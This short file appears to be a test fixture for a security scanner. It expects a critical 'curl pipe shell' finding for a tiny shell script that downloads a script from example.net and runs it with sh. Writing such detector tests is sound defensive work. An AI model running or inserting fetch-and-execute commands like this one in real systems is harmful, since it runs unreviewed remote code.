# expect: shell.curl_pipe_shell critical
# path: s/d.sh
#!/bin/sh
curl -fsSLO https://get.example.net/get.sh && sh get.sh
